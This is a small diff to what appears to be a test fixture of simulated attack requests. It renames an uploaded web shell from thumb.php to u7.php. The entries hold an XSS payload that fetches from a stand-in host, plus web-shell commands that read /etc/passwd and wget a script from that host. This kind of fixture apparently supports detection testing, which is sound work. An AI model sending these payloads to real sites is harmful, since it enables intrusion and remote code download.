@@ -66,9 +66,9 @@ _XSS = (
     ("/contact?name=%3Csvg/onload%3Dfetch(%27//203.0.113.140/c%27)%3E", 200),
 )  # fmt: skip
 _SHELL = (
-    ("POST", "/admin/upload", 200, 312), ("GET", "/uploads/thumb.php?cmd=id", 200, 54),
-    ("GET", "/uploads/thumb.php?cmd=cat+/etc/passwd", 200, 1873),
-    ("GET", "/uploads/thumb.php?cmd=wget+http://203.0.113.140/k.sh", 200, 0),
+    ("POST", "/admin/upload", 200, 312), ("GET", "/uploads/u7.php?cmd=id", 200, 54),
+    ("GET", "/uploads/u7.php?cmd=cat+/etc/passwd", 200, 1873),
+    ("GET", "/uploads/u7.php?cmd=wget+http://203.0.113.140/k.sh", 200, 0),
 )  # fmt: skip
 
 
